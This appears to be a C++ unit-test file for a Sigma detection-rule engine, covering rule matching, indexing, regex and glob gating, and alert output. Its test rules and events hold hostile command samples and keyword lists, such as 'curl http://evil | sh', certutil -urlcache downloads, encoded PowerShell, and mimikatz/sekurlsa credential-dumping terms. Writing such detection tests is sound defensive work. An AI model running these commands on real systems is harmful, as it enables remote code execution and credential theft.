// Core language: detection maps, lists, keywords, null/empty, wildcards and escapes,
// conditions, log-source routing, and the detector's alerts.

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "agent/sigma/engine.h"
#include "agent/sigma/sigma_detector.h"
#include "tests/sigma/sigma_test_util.h"

namespace otasuke::agent::sigma {
namespace {

using ::testing::ElementsAre;
using testing::ForEachFieldItem;
using ::testing::IsEmpty;
using testing::MatchIds;
using testing::MustCompile;
using testing::ProcessEvent;

constexpr char kCurlRule[] = R"(
title: Curl piped to shell
id: r-curl
status: test
level: high
tags: [attack.execution, attack.t1059.004]
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    Image|endswith: /curl
    CommandLine|contains|all: ['http', ' | ']
  filter:
    User: root
  condition: selection and not filter
otasuke:
  explanation: {ja: "ダウンロードしたスクリプトを実行", en: "A script was downloaded and run"}
  next_step: {ja: "端末を隔離", en: "Isolate the PC"}
)";

TEST(SigmaEngine, MapListAndNot) {
  auto rules = MustCompile(kCurlRule);
  ASSERT_NE(rules, nullptr);
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "/usr/bin/CURL"},
                                             {"CommandLine", "curl HTTP://x | sh"},
                                             {"User", "alice"}},
                                            "linux")),
              ElementsAre("r-curl"));
  // Filter excludes root; missing `all` value fails; wrong product never meets the rule.
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "/usr/bin/curl"},
                                             {"CommandLine", "curl http://x | sh"},
                                             {"User", "root"}},
                                            "linux")),
              IsEmpty());
  EXPECT_THAT(
      MatchIds(*rules, ProcessEvent({{"Image", "/usr/bin/curl"}, {"CommandLine", "curl http://x"}},
                                    "linux")),
      IsEmpty());
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "/usr/bin/curl"},
                                             {"CommandLine", "curl http://x | sh"}},
                                            "windows")),
              IsEmpty());
}

// Long value lists go through the engine's hash index (string_test_set.h); MatchIds checks
// the oracle, which tests the values one by one, agrees on every case: short and long
// literals sharing key bytes, values shorter than the key, case, cased and glob values that
// stay outside the index, null, and an absent field.
TEST(SigmaEngine, IndexedValueListsAgreeWithTheOracle) {
  auto rules = MustCompile(R"(
title: lists
id: r-lists
logsource: {product: windows, category: process_creation}
detection:
  by_suffix:
    Image|endswith: ['\a.exe', '\cmd.exe', 'md.exe', '.scr', '\tool.com']
  by_exact:
    OriginalFileName: ['cmd.exe', 'PowerShell.EXE', 'x', 'reg.exe', 'w?script.exe', null]
  by_prefix:
    CommandLine|startswith: ['rundll32 ', 'regsvr32 /s', 'mshta', 'ms']
  cased:
    Description|cased: ['Tool', 'Another', 'Third', 'Fourth', 'Fifth']
  condition: 1 of them
)");
  ASSERT_NE(rules, nullptr);
  const std::vector<std::pair<std::string, std::string>> hits[] = {
      {{"Image", "C:\\Windows\\CMD.EXE"}},  // suffix, other case
      {{"Image", "C:\\x\\xmd.exe"}},        // shorter suffix sharing key bytes
      {{"Image", "a.scr"}},                 // short literal
      {{"OriginalFileName", "powershell.exe"}},
      {{"OriginalFileName", "X"}},             // exact, one byte
      {{"OriginalFileName", "WXScript.exe"}},  // glob, outside the index
      {{"Image", "C:\\y.exe"}},                // OriginalFileName absent: null holds
      {{"CommandLine", "MS"}},
      {{"CommandLine", "regsvr32 /s x.dll"}},
      {{"Description", "Tool"}},
  };
  for (auto fields : hits) {
    const std::string what = fields[0].first + "=" + fields[0].second;
    // A present OriginalFileName keeps `null` from matching, except in the case about it.
    if (fields[0].first != "OriginalFileName" && fields[0].second != "C:\\y.exe") {
      fields.push_back({"OriginalFileName", "other.exe"});
    }
    EXPECT_THAT(MatchIds(*rules, ProcessEvent(fields)), ElementsAre("r-lists")) << what;
  }
  const std::vector<std::pair<std::string, std::string>> misses[] = {
      {{"Image", "C:\\cmd.exe\\x"}, {"OriginalFileName", "cmd.ex"}},
      {{"Image", "e"}, {"OriginalFileName", "xx"}},
      {{"CommandLine", "m"}, {"OriginalFileName", "reg.exe2"}},
      {{"CommandLine", "run rundll32 "}, {"OriginalFileName", "-"}},
      {{"Description", "tool"}, {"OriginalFileName", "wscript.ex"}},
  };
  for (const auto& fields : misses) {
    EXPECT_THAT(MatchIds(*rules, ProcessEvent(fields)), IsEmpty()) << fields[0].second;
  }
}

// Caseless contains / startswith / endswith / exact tests whose literal the prefilter scans
// for in the same field are answered from the scan's hits (rule.h HitTest), also in another
// rule's `not` filter and in `|all` items. MatchIds checks the oracle agrees: a literal seen
// twice (mid-value, then at the end), at the start only, as the whole value, in another case,
// and in another field.
TEST(SigmaEngine, TestsAnsweredByPrefilterHitsAgreeWithTheOracle) {
  auto rules = MustCompile(R"(
title: anchors
id: r-anchors
logsource: {product: windows, category: process_creation}
detection:
  by_contains:
    CommandLine|contains: ['invoke-thing', 'dumpcreds']
  by_prefix:
    CommandLine|startswith: 'sneaky.exe '
  by_suffix:
    CommandLine|endswith: ' -hidden'
  by_exact:
    CommandLine: 'whole-command'
  condition: 1 of them
---
title: both
id: r-both
logsource: {product: windows, category: process_creation}
detection:
  both:
    CommandLine|contains|all: ['alpha-part', 'beta-part']
  condition: both
---
title: filtered
id: r-filtered
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\tool.exe'
  filter:
    CommandLine|contains: 'dumpcreds'
  condition: selection and not filter
)");
  ASSERT_NE(rules, nullptr);
  size_t answered_by_hits = 0;
  ForEachFieldItem(*rules, [&](const FieldItem& item) {
    if (item.index != nullptr) answered_by_hits += item.index->by_hits.size();
  });
  EXPECT_EQ(answered_by_hits, 9u);  // every test above: all their literals are scanned for
  const std::pair<std::string, std::vector<std::string>> cases[] = {
      {"x -hidden y -hidden", {"r-anchors"}},
      {"x -hidden y", {}},
      {" -hidden", {"r-anchors"}},
      {"SNEAKY.EXE /q", {"r-anchors"}},
      {"run sneaky.exe now", {}},
      {"sneaky.exe", {}},
      {"Whole-Command", {"r-anchors"}},
      {"whole-command ", {}},
      {"a whole-command", {}},
      {"x INVOKE-THING", {"r-anchors"}},
      {"beta-part ALPHA-PART", {"r-both"}},
      {"alpha-part only", {}},
      {"dumpcreds", {"r-anchors"}},
  };
  for (const auto& [command_line, expected] : cases) {
    EXPECT_EQ(MatchIds(*rules, ProcessEvent({{"CommandLine", command_line}})), expected)
        << command_line;
  }
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "C:\\tool.exe"}, {"CommandLine", "x"}})),
              ElementsAre("r-filtered"));
  EXPECT_THAT(
      MatchIds(*rules, ProcessEvent({{"Image", "C:\\tool.exe"}, {"CommandLine", "DumpCreds now"}})),
      ElementsAre("r-anchors"));
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "C:\\tool.exe"},
                                             {"ParentCommandLine", "dumpcreds"}})),
              ElementsAre("r-filtered"));
}

// The prefilter's other-clause checks read EventView::Seen: a literal recorded in this event,
// whatever where bits it carries (anchored hits too), and nothing recorded for an earlier one.
TEST(EventView, SeenIsAnyRecordOfThisEvent) {
  const Event event = ProcessEvent({{"Image", "C:\\x.exe"}});
  EventView view;
  view.Reset(event);
  view.StartHits(8);
  view.RecordHit(1, kHitAnywhere);
  view.RecordHit(2, kHitAnywhere | kHitAtStart);
  view.RecordHit(3, kHitAnywhere | kHitAtStart | kHitAtEnd | kHitWhole);
  view.RecordHit(3, kHitAnywhere);
  for (uint32_t literal = 0; literal < 8; ++literal) {
    EXPECT_EQ(view.Seen(literal), view.Hit(literal, kHitAnywhere)) << literal;
    EXPECT_EQ(view.Seen(literal), literal >= 1 && literal <= 3) << literal;
  }
  view.Reset(event);  // the next event
  view.StartHits(8);
  view.RecordHit(4, kHitAnywhere | kHitAtEnd);
  for (uint32_t literal = 0; literal < 8; ++literal) {
    EXPECT_EQ(view.Seen(literal), literal == 4) << literal;
  }
}

// A regex is tested only when the literals it requires occur: from the scan's hits when the
// bucket scans for the literal in that field (the first rule's "powershell" is its clause),
// else by a search of the lowered value (the filter's regex, which no clause needs). Present,
// absent, in another case or in another field, the indexed engine must agree with the oracle.
TEST(SigmaEngine, RegexesGatedByTheirRequiredLiteralAgreeWithTheOracle) {
  auto rules = MustCompile(R"(
title: encoded
id: r-encoded
logsource: {product: windows, category: process_creation}
detection:
  selection:
    CommandLine|re: 'PowerShell.+-enc(odedcommand)? [a-z0-9+/=]{8,}'
  condition: selection
---
title: tool without a quiet flag
id: r-quiet
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\tool.exe'
  filter:
    CommandLine|re|i: '\s/quiet(mode)?\b'
  condition: selection and not filter
)");
  ASSERT_NE(rules, nullptr);
  size_t gated_by_hits = 0, gated = 0;
  ForEachFieldItem(*rules, [&](const FieldItem& item) {
    for (const auto& alternatives : item.values) {
      for (const ValueTest& t : alternatives) {
        if (t.kind != ValueTest::Kind::kRegex) continue;
        gated += t.gates.empty() ? 0 : 1;
        for (const LiteralGate& gate : t.gates) {
          gated_by_hits += gate.literal_id.has_value() ? 1 : 0;
        }
      }
    }
  });
  EXPECT_EQ(gated, 2u);          // by "powershell", "-enc", " " and by "/quiet"
  EXPECT_EQ(gated_by_hits, 1u);  // the scan looks for "powershell" only
  const std::pair<std::string, std::vector<std::string>> cases[] = {
      {"PowerShell -enc sqbfafga", {"r-encoded"}},
      {"x PowerShell.exe -encodedcommand sqbfafga", {"r-encoded"}},
      {"POWERSHELL -enc sqbfafga", {}},  // the literal occurs (caseless), the cased regex fails
      {"pwsh -enc sqbfafga", {}},
      {"PowerShell -noprofile", {}},
  };
  for (const auto& [command_line, expected] : cases) {
    EXPECT_EQ(MatchIds(*rules, ProcessEvent({{"CommandLine", command_line}})), expected)
        << command_line;
  }
  const std::pair<std::string, std::vector<std::string>> tool_cases[] = {
      {"tool.exe /quiet", {}},
      {"tool.exe /QUIETMODE", {}},
      {"tool.exe/quiet", {"r-quiet"}},  // the literal occurs, the regex does not match
      {"tool.exe /verbose", {"r-quiet"}},
  };
  for (const auto& [command_line, expected] : tool_cases) {
    EXPECT_EQ(MatchIds(*rules, ProcessEvent({{"Image", "C:\\x\\tool.exe"},
                                             {"CommandLine", command_line},
                                             {"ParentCommandLine", "x /quiet"}})),
              expected)
        << command_line;
  }
}

// A glob is searched only when those of its literal runs the bucket scans for in its field
// occurred (the scan's hits answer them; the glob's own search finds the others). Runs present,
// absent, in another order, in another case, split by `?`, in a cased glob: the indexed engine
// must agree with the oracle.
TEST(SigmaEngine, GlobsGatedByTheirScannedRunsAgreeWithTheOracle) {
  auto rules = MustCompile(R"(
title: recon piped to find
id: r-pipe
logsource: {product: windows, category: process_creation}
detection:
  selection:
    CommandLine|contains:
      - 'ipconfig*|*find'
      - 'tasklist*|*find'
  condition: selection
---
title: cased glob with a single-byte wildcard
id: r-cased
logsource: {product: windows, category: process_creation}
detection:
  selection:
    CommandLine|cased: 'Run?dll*Entry*'
  filter:
    CommandLine|contains: 'safe'
  condition: selection and not filter
)");
  ASSERT_NE(rules, nullptr);
  size_t globs = 0, gates_by_hits = 0, gates_searched = 0;
  ForEachFieldItem(*rules, [&](const FieldItem& item) {
    for (const auto& alternatives : item.values) {
      for (const ValueTest& t : alternatives) {
        if (t.kind != ValueTest::Kind::kString || t.text.kind() != StringMatcher::Kind::kGlob) {
          continue;
        }
        ++globs;
        for (const LiteralGate& gate : t.gates) {
          (gate.literal_id.has_value() ? gates_by_hits : gates_searched) += 1;
        }
      }
    }
  });
  EXPECT_EQ(globs, 3u);
  // The clauses take each value's longest run: "ipconfig" and "tasklist" (the scan looks for
  // neither "find" nor "|") and the cased glob's "entry" ("run" and "dll" are shorter).
  EXPECT_EQ(gates_by_hits, 3u);
  EXPECT_EQ(gates_searched, 0u);  // never searched: the glob's search does that
  const std::pair<std::string, std::vector<std::string>> cases[] = {
      {"cmd /c ipconfig /all | find \"IPv4\"", {"r-pipe"}},
      {"cmd /c IPCONFIG /all |FIND x", {"r-pipe"}},
      {"cmd /c find x | ipconfig", {}},  // the runs occur, out of order
      {"cmd /c ipconfig /all", {}},
      {"tasklist /v | findstr x", {"r-pipe"}},
      {"tasklist /v > find.txt", {}},
      {"RunXdll32 x,Entry", {"r-cased"}},
      {"Run_dll32 x,Entry safe", {}},
      {"rundll32 x,entry", {}},  // the runs occur caselessly, the cased glob fails
      {"RunXdll32 x,Entr", {}},
      {"Rundll32 Entry", {}},  // `?` needs a byte
  };
  for (const auto& [command_line, expected] : cases) {
    EXPECT_EQ(MatchIds(*rules, ProcessEvent({{"CommandLine", command_line}})), expected)
        << command_line;
  }
}

// Selections whose every test the scan's hits answer are evaluated as flat bit tests
// (hit_selection.h): plain and `all` items, several groups (a list of maps), anchored tests, a
// `not` of one. Each case must agree with the oracle, which tests the values themselves.
TEST(SigmaEngine, SelectionsAnsweredWhollyByHitsAgreeWithTheOracle) {
  auto rules = MustCompile(R"(
title: flat
id: r-flat
logsource: {product: windows, category: process_creation}
detection:
  selection_img:
    - Image|endswith: ['\certutil.exe', '\bitsadmin.exe']
    - OriginalFileName: 'CertUtil.exe'
  selection_cli:
    CommandLine|contains|all: ['-urlcache', 'http']
    CommandLine|startswith: ['certutil', '"certutil']
  filter:
    CommandLine|contains: 'verify-only'
  condition: all of selection_* and not filter
)");
  ASSERT_NE(rules, nullptr);
  const DetectionRule& rule = rules->rules()[0];
  for (const Selection& s : rule.selections) EXPECT_NE(s.by_hits, nullptr) << s.name;
  struct Case {
    std::string image, original, command_line;
    bool fires;
  };
  const Case cases[] = {
      {"C:\\w\\certutil.exe", "", "certutil -urlcache -f http://x a", true},
      {"C:\\w\\CERTUTIL.EXE", "", "CertUtil -URLCACHE HTTP://x", true},
      {"C:\\w\\x.exe", "CertUtil.exe", "\"certutil\" -urlcache http://x", true},
      {"C:\\w\\x.exe", "CertUtil.exe.bak", "certutil -urlcache http://x", false},
      {"C:\\w\\certutil.exe", "", "certutil -urlcache ftp://x", false},       // one of `all`
      {"C:\\w\\certutil.exe", "", "run certutil -urlcache http://x", false},  // not at start
      {"C:\\w\\certutil.exe", "", "certutil -urlcache http://x verify-only", false},
      {"C:\\w\\certutil.exe.old", "", "certutil -urlcache http://x", false},  // not at end
      {"C:\\w\\bitsadmin.exe", "", "certutil http -urlcache", true},
  };
  for (const Case& c : cases) {
    std::vector<std::pair<std::string, std::string>> fields = {{"Image", c.image},
                                                               {"CommandLine", c.command_line}};
    if (!c.original.empty()) fields.emplace_back("OriginalFileName", c.original);
    EXPECT_EQ(MatchIds(*rules, ProcessEvent(fields)).size(), c.fires ? 1u : 0u)
        << c.image << " | " << c.command_line;
  }
}

TEST(SigmaEngine, WildcardsEscapesNullAndEmpty) {
  auto rules = MustCompile(R"(
title: Wildcards
id: r-wild
logsource: {product: windows, category: process_creation}
detection:
  sel_glob:
    Image: 'C:\Windows\\*\cmd?.exe'
  sel_star_literal:
    CommandLine: 'echo \*'
  sel_null:
    ParentImage: null
    Image: 'x.exe'
  sel_empty:
    OriginalFileName: ''
    Image: 'y.exe'
  condition: 1 of sel_*
)");
  ASSERT_NE(rules, nullptr);
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "c:\\windows\\system32\\CMD2.exe"}})),
              ElementsAre("r-wild"));
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "c:\\windows\\system32\\cmd.exe"}})),
              IsEmpty());
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"CommandLine", "echo *"}})), ElementsAre("r-wild"));
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"CommandLine", "echo a"}})), IsEmpty());
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "x.exe"}})), ElementsAre("r-wild"));
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "x.exe"}, {"ParentImage", "p"}})),
              IsEmpty());
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "y.exe"}, {"OriginalFileName", ""}})),
              ElementsAre("r-wild"));
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "y.exe"}})), IsEmpty());
}

TEST(SigmaEngine, ListOfMapsKeywordsAndAllOfThem) {
  auto rules = MustCompile(R"(
title: Lists
id: r-lists
logsource: {product: windows, category: process_creation}
detection:
  sel_a:
    - Image|endswith: '\a.exe'
    - Image|endswith: '\b.exe'
  sel_kw:
    - 'mimikatz'
    - 'sekurlsa'
  _ignored:
    Image: nothing
  condition: all of them
)");
  ASSERT_NE(rules, nullptr);
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "C:\\B.EXE"},
                                             {"CommandLine", "run SEKURLSA::logonpasswords"}})),
              ElementsAre("r-lists"));
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "C:\\c.exe"}, {"CommandLine", "mimikatz"}})),
              IsEmpty());
}

TEST(SigmaEngine, ConditionPrecedenceAndParentheses) {
  auto rules = MustCompile(R"(
title: Precedence
id: r-prec
logsource: {product: windows, category: process_creation}
detection:
  a: {Image: a}
  b: {User: b}
  c: {CommandLine: c}
  condition: not a and b or c
)");
  ASSERT_NE(rules, nullptr);
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"User", "b"}})), ElementsAre("r-prec"));
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "a"}, {"User", "b"}})), IsEmpty());
  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "a"}, {"CommandLine", "c"}})),
              ElementsAre("r-prec"));
}

TEST(SigmaEngine, LogSourceRouting) {
  auto rules = MustCompile(R"(
title: Any windows
id: r-any
logsource: {product: windows}
detection:
  sel: {Image|endswith: '.exe'}
  condition: sel
---
title: Sysmon only
id: r-sysmon
logsource: {product: windows, service: sysmon}
detection:
  sel: {Image|endswith: '.exe'}
  condition: sel
---
title: Registry umbrella
id: r-reg
logsource: {product: windows, category: registry_event}
detection:
  sel: {TargetObject|contains: 'run'}
  condition: sel
)");
  ASSERT_NE(rules, nullptr);
  Event e = ProcessEvent({{"Image", "a.exe"}});
  EXPECT_THAT(MatchIds(*rules, e), ElementsAre("r-any"));
  e.source().service = "sysmon";
  EXPECT_THAT(MatchIds(*rules, e), ElementsAre("r-any", "r-sysmon"));
  Event reg;
  reg.source() = {.product = "windows", .category = "registry_set", .service = "sysmon"};
  reg.Set(FieldId::kTargetObject, "HKLM\\...\\Run\\x");
  EXPECT_THAT(MatchIds(*rules, reg), ElementsAre("r-reg"));
}

class CollectingSink : public AlertSink {
 public:
  void Emit(v1::Alert&& alert) override { alerts.push_back(std::move(alert)); }
  std::vector<v1::Alert> alerts;
};

TEST(SigmaDetector, EmitsAlertWithRuleRefEvidenceAndSmeText) {
  auto compiled = CompileSigmaRules({{.path = "r.yml", .content = kCurlRule}},
                                    {.strict = true, .ruleset_version = "v7"});
  ASSERT_TRUE(compiled.ok()) << compiled.status();
  Snapshot<CompiledSigmaRules> snapshot(compiled->rules);
  SigmaDetector detector(snapshot);
  CollectingSink sink;
  Event e = ProcessEvent({{"Image", "/usr/bin/curl"},
                          {"CommandLine", "curl http://evil | sh"},
                          {"User", "alice"},
                          {"ProcessId", "42"},
                          {"ParentProcessId", "7"},
                          {"Hashes", "SHA1=aa,SHA256=BEEF"}},
                         "linux");
  e.set_time(absl::FromUnixSeconds(1700000000));
  detector.Inspect(e, sink);
  ASSERT_EQ(sink.alerts.size(), 1u);
  const v1::Alert& a = sink.alerts[0];
  EXPECT_EQ(a.rule().engine(), v1::ENGINE_SIGMA);
  EXPECT_EQ(a.rule().rule_id(), "r-curl");
  EXPECT_EQ(a.rule().ruleset_version(), "v7");
  EXPECT_EQ(a.severity(), v1::SEVERITY_HIGH);
  EXPECT_EQ(a.title(), "Curl piped to shell");
  EXPECT_THAT(a.mitre_attack(), ElementsAre("T1059.004"));
  EXPECT_EQ(a.explanation().en(), "A script was downloaded and run");
  EXPECT_EQ(a.next_step().ja(), "端末を隔離");
  EXPECT_EQ(a.process().pid(), 42);
  EXPECT_EQ(a.process().ppid(), 7);
  EXPECT_EQ(a.process().image(), "/usr/bin/curl");
  EXPECT_EQ(a.process().sha256(), "BEEF");
  EXPECT_EQ(a.event_time().seconds(), 1700000000);
  EXPECT_THAT(a.raw_evidence(), ::testing::HasSubstr("\"CommandLine\":\"curl http://evil | sh\""));
  // A reload swaps the rule set: the same detector now sees no rules.
  snapshot.Publish(MustCompile(R"(
title: Other
id: r-other
logsource: {product: windows}
detection: {sel: {Image: x}, condition: sel}
)"));
  detector.Inspect(e, sink);
  EXPECT_EQ(sink.alerts.size(), 1u);
}

}  // namespace
}  // namespace otasuke::agent::sigma
